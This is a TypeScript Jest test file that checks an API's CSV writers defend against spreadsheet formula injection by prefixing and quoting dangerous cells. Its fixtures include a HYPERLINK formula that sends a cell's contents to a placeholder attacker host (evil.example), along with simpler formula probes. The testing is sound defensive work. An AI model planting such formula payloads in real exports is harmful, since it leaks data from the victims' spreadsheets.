/**
 * CSV (formula) injection, OWASP's defence, in the one place every CSV of the API is written with
 * (services/api/src/http/csv.ts): each payload a tenant may store, written in the payout's
 * reconciliation file (docs/api.md section 14) and through the streaming writer of an import's
 * `errors.csv` (section 16), comes out prefixed with a single quote and quoted; numbers the
 * platform writes (a refund's negative amount) stay numbers; other text is as it was.
 */
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { describe, expect, test } from '@jest/globals';
import { stringify } from 'csv-stringify';
import { csvOptions } from '../../services/api/src/http/csv.js';
import { reconciliationCsv } from '../../services/api/src/resources/payouts/reconciliation.js';

const line = (reference: string | null, gross = 10000) => ({
  item: 'bi_1',
  type: 'payment',
  payment: 'pay_1',
  debt: 'debt_1',
  customer_reference: reference,
  currency: 'GBP',
  gross,
  fee: 250,
  net: gross - 250,
  created_at: '2026-01-01T00:00:00.000Z',
});

/** The customer_reference cell of the row written for `reference`. */
const cellOf = (reference: string) =>
  reconciliationCsv([line(reference)])
    .split('\r\n')[1]!
    .replace(/^bi_1,payment,pay_1,debt_1,/, '')
    .replace(/,GBP,.*$/s, '');

describe('a string a spreadsheet would run is neutralised', () => {
  test.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`],
    ['=1+1', `"'=1+1"`],
    ['+1+1', `"'+1+1"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\uFF1D1+1', `"'\uFF1D1+1"`],
  ])('%j is written %s', (reference, cell) => {
    expect(cellOf(reference)).toBe(cell);
  });

  test('other text is written as it was (quoted only when RFC 4180 needs it)', () => {
    expect(cellOf('ACC-1')).toBe('ACC-1');
    expect(cellOf('ACC=1+1')).toBe('ACC=1+1');
    expect(cellOf('ACC, "7"')).toBe('"ACC, ""7"""');
  });
});

test('numbers the platform writes stay numbers: a negative amount is not prefixed', () => {
  expect(reconciliationCsv([line('ACC-1', -100)]).split('\r\n')[1]).toBe('bi_1,payment,pay_1,debt_1,ACC-1,GBP,-100,250,-350,2026-01-01T00:00:00.000Z');
});

test('the streaming writer of errors.csv takes the same options', async () => {
  const csv = stringify(csvOptions({ header: true, columns: ['row', 'column', 'code', 'message'] }));
  const rows = [{ row: 2, column: 'note', code: 'invalid_date', message: '=1+1' }];
  expect(await text(Readable.from(rows).pipe(csv))).toBe(`row,column,code,message\n2,note,invalid_date,"'=1+1"\n`);
});
